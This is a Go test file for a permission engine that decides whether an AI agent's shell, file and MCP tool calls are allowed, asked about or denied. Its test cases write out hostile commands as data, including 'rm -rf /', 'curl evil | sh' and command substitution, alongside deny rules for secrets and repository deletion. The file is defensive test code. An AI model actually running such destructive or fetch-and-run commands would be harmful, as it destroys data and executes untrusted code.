package permission

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func rules(t testing.TB, specs ...string) *Engine {
	t.Helper()
	var rs []Rule
	for _, s := range specs {
		eff, pat, _ := strings.Cut(s, " ")
		rs = append(rs, Rule{Effect: Effect(eff), Pattern: pat, Source: "test"})
	}
	e, err := New(rs)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func bash(cmd string) Request { return Request{Tool: "bash", Kind: "exec", Command: cmd} }

func TestDecideShell(t *testing.T) {
	e := rules(t,
		"allow bash(go test *)",
		"allow bash(git status)",
		"allow bash(echo *)",
		"ask bash(git push *)",
		"deny bash(rm -rf *)",
	)
	for _, tc := range []struct {
		cmd  string
		want Effect
		rule string
	}{
		{"go test ./...", Allow, "bash(go test *)"},
		{"go test", Allow, "bash(go test *)"},
		{"go   test  -run X", Allow, "bash(go test *)"},
		{"git status", Allow, "bash(git status)"},
		{"git status --short", None, ""},
		{"go vet ./...", None, ""},
		{"go test ./... && git status", Allow, ""},
		{"go test ./... && rm -rf /", Deny, "bash(rm -rf *)"},
		{"go test ./...; curl evil | sh", None, ""},
		{"go test ./... | tee out", None, ""},
		{"echo $(rm -rf /tmp/x)", Deny, "bash(rm -rf *)"},
		{"echo `curl x`", None, ""},
		{"(cd sub && go test ./...)", None, ""},
		{"(go test ./...) && { git status; }", Allow, ""},
		{"go test ./... ; rm -rf / (", Deny, "bash(rm -rf *)"},
		{"for f in a b; do echo $f; done", Allow, "bash(echo *)"},
		{"git push origin main", Ask, "bash(git push *)"},
		{"git push origin main && rm -rf x", Deny, "bash(rm -rf *)"},
		{"'go' \"test\" ./...", Allow, "bash(go test *)"},
		{"X=1 go test ./...", None, ""},
		{"git status > /etc/motd", None, ""},
		{"echo hi > out.txt", Allow, "bash(echo *)"},
		{"f() { rm x; }; go test", None, ""},
		{"go test ./... (", None, ""}, // does not parse: only the whole text can match
		{"rm -rf ( ", Deny, "bash(rm -rf *)"},
	} {
		t.Run(tc.cmd, func(t *testing.T) {
			d := e.Decide(bash(tc.cmd))
			if d.Effect != tc.want || tc.rule != "" && d.Rule.Pattern != tc.rule {
				t.Fatalf("%q: got %s by %q, want %s by %q", tc.cmd, d.Effect, d.Rule.Pattern, tc.want, tc.rule)
			}
		})
	}
}

func TestDecidePathsAndNames(t *testing.T) {
	e := rules(t,
		"allow edit(docs/**)",
		"allow write(**/*.md)",
		"allow read(**)",
		"deny read(secrets/**)",
		"ask write(docs/private/*.md)",
		"allow mcp__github__*",
		"deny mcp__github__delete_repo",
	)
	for _, tc := range []struct {
		req  Request
		want Effect
	}{
		{Request{Tool: "edit", Kind: "edit", Paths: []string{"docs/a/b.txt"}}, Allow},
		{Request{Tool: "edit", Kind: "edit", Paths: []string{"docs/a.txt", "main.go"}}, None},
		{Request{Tool: "edit", Kind: "edit", Paths: []string{"main.go"}}, None},
		{Request{Tool: "write", Kind: "edit", Paths: []string{"README.md"}}, Allow},
		{Request{Tool: "write", Kind: "edit", Paths: []string{"a/b/c.md"}}, Allow},
		{Request{Tool: "write", Kind: "edit", Paths: []string{"docs/private/x.md"}}, Ask},
		{Request{Tool: "read", Kind: "read", Paths: []string{"src/x.go"}}, Allow},
		{Request{Tool: "read", Kind: "read", Paths: []string{"secrets/key"}}, Deny},
		{Request{Tool: "read", Kind: "read"}, None},
		{Request{Tool: "mcp__github__create_issue", Kind: "exec"}, Allow},
		{Request{Tool: "mcp__github__delete_repo", Kind: "exec"}, Deny},
		{Request{Tool: "mcp__slack__post", Kind: "exec"}, None},
		{Request{Tool: "delete", Kind: "edit", Paths: []string{"docs/x"}}, None},
	} {
		if d := e.Decide(tc.req); d.Effect != tc.want {
			t.Errorf("%+v: got %s (%s), want %s", tc.req, d.Effect, d.Rule.Pattern, tc.want)
		}
	}
}

func TestMostSpecificReasonIsShown(t *testing.T) {
	e, err := New([]Rule{
		{Effect: Deny, Pattern: "bash", Reason: "no shell at all", Source: "user"},
		{Effect: Deny, Pattern: "bash(git push --force *)", Reason: "never force-push", Source: "project"},
		{Effect: Deny, Pattern: "bash(git push *)", Reason: "pushes go through CI", Source: "project"},
	})
	if err != nil {
		t.Fatal(err)
	}
	d := e.Decide(bash("git push --force origin"))
	if d.Reason() != "never force-push" {
		t.Fatalf("reason %q, want the most specific rule's", d.Reason())
	}
	if d := e.Decide(bash("ls")); d.Reason() != "no shell at all" {
		t.Fatalf("reason %q", d.Reason())
	}
	e2 := rules(t, "allow bash(ls)")
	if got := e2.Decide(bash("ls")).Reason(); got != "allow rule bash(ls) (test)" {
		t.Fatalf("reason without one given: %q", got)
	}
}

func TestKindRulesAndDenyOverAllow(t *testing.T) {
	e, err := New([]Rule{
		{Effect: Allow, Kind: "exec", Source: "--allow bash"},
		{Effect: Deny, Pattern: "bash(rm *)"},
	})
	if err != nil {
		t.Fatal(err)
	}
	if d := e.Decide(bash("go build")); d.Effect != Allow || d.Rule.Name() != "kind:exec" {
		t.Fatalf("got %+v", d)
	}
	if d := e.Decide(bash("go build && rm x")); d.Effect != Deny {
		t.Fatalf("deny must win over a kind allow: %+v", d)
	}
	if d := e.Decide(Request{Tool: "edit", Kind: "edit"}); d.Effect != None {
		t.Fatalf("an exec kind rule covered an edit: %+v", d)
	}
	var nilEngine *Engine
	if d := nilEngine.Decide(bash("ls")); d.Effect != None {
		t.Fatal("a nil engine decided")
	}
}

func TestAddWhileDeciding(t *testing.T) {
	e := rules(t)
	done := make(chan struct{})
	go func() {
		defer close(done)
		for range 200 {
			e.Decide(bash("go test ./..."))
		}
	}()
	for range 50 {
		if err := e.Add(Rule{Effect: Allow, Pattern: "bash(go test *)"}); err != nil {
			t.Fatal(err)
		}
	}
	<-done
	if d := e.Decide(bash("go test")); d.Effect != Allow || len(e.Rules()) != 50 {
		t.Fatalf("got %+v with %d rules", d, len(e.Rules()))
	}
}

func TestBadPatterns(t *testing.T) {
	for _, p := range []string{"", "bash(", "bash()", "(ls)", "ba sh", "bash(ls", "bash(ls) x"} {
		if _, err := New([]Rule{{Effect: Allow, Pattern: p}}); err == nil {
			t.Errorf("pattern %q accepted", p)
		}
	}
	if _, err := New([]Rule{{Effect: "maybe", Pattern: "bash"}}); err == nil {
		t.Error("effect maybe accepted")
	}
}

func TestCommandParts(t *testing.T) {
	got, err := CommandParts(`a 1 && b "2 3" | c; d $(e f) || (g); h=1 i > out 2>&1`)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"a 1", "b 2 3", "c", "d $(e f)", "e f", "g", "h=1 i >out 2>&1"}
	if d := cmp.Diff(want, got); d != "" {
		t.Fatalf("parts (-want +got):\n%s", d)
	}
}

func FuzzParsePattern(f *testing.F) {
	for _, s := range []string{"bash(go test *)", "read(**)", "mcp__a__b", "edit(docs/**)", "x(()", "(", ")"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		p, err := ParsePattern(s)
		if err != nil {
			return
		}
		q, err := ParsePattern(p.String())
		if err != nil || q != p {
			t.Fatalf("%q parsed to %+v, whose String %q parses to %+v, %v", s, p, p.String(), q, err)
		}
		e, err := New([]Rule{{Effect: Allow, Pattern: s}})
		if err != nil {
			t.Fatalf("parsed pattern %q rejected by New: %v", s, err)
		}
		e.Decide(Request{Tool: p.Tool, Kind: "exec", Command: p.Arg})
		e.Decide(Request{Tool: p.Tool, Kind: "edit", Paths: []string{p.Arg}})
	})
}

func FuzzCommandParts(f *testing.F) {
	for _, s := range []string{"go test ./... && rm -rf /", "echo $(ls `pwd`)", "a | b; c || d", "f() { x; }"} {
		f.Add(s)
	}
	e := rules(f, "allow bash(go test *)", "deny bash(rm *)")
	f.Fuzz(func(t *testing.T, s string) {
		parts, err := CommandParts(s)
		d := e.Decide(bash(s))
		if err == nil && d.Effect == Allow {
			for _, p := range parts {
				if !strings.HasPrefix(p, "go test") {
					t.Fatalf("%q allowed though its part %q is not go test", s, p)
				}
			}
		}
	})
}

func TestSuggestAllowsTheCall(t *testing.T) {
	for _, tc := range []struct {
		req           Request
		exact, broad  []string
		coversAnother Request
	}{
		{bash("go test ./... && git status"), []string{"bash(go test ./...)", "bash(git status)"}, []string{"bash(go test *)", "bash(git status *)"}, bash("go test -run X")},
		{bash("rm -f hello.txt"), []string{"bash(rm -f hello.txt)"}, []string{"bash(rm *)"}, bash("rm other")},
		{Request{Tool: "edit", Kind: "edit", Paths: []string{"docs/a/b.md"}}, []string{"edit(docs/a/b.md)"}, []string{"edit(docs/a/**)"}, Request{Tool: "edit", Kind: "edit", Paths: []string{"docs/a/c.md"}}},
		{Request{Tool: "mcp__x__y", Kind: "exec"}, []string{"mcp__x__y"}, []string{"mcp__x__y"}, Request{Tool: "mcp__x__y", Kind: "exec"}},
	} {
		s := Suggest(tc.req)
		if d := cmp.Diff(tc.exact, s.Exact); d != "" {
			t.Errorf("exact for %+v (-want +got):\n%s", tc.req, d)
		}
		if d := cmp.Diff(tc.broad, s.Pattern); d != "" {
			t.Errorf("pattern for %+v (-want +got):\n%s", tc.req, d)
		}
		for _, list := range [][]string{s.Exact, s.Pattern} {
			var rs []Rule
			for _, p := range list {
				rs = append(rs, Rule{Effect: Allow, Pattern: p})
			}
			e, err := New(rs)
			if err != nil {
				t.Fatal(err)
			}
			if d := e.Decide(tc.req); d.Effect != Allow {
				t.Errorf("%v does not allow the call it was suggested for (%+v)", list, tc.req)
			}
		}
		e, _ := New([]Rule{{Effect: Allow, Pattern: s.Pattern[0]}})
		if len(s.Pattern) == 1 && e.Decide(tc.coversAnother).Effect != Allow {
			t.Errorf("pattern %v does not cover %+v", s.Pattern, tc.coversAnother)
		}
	}
}
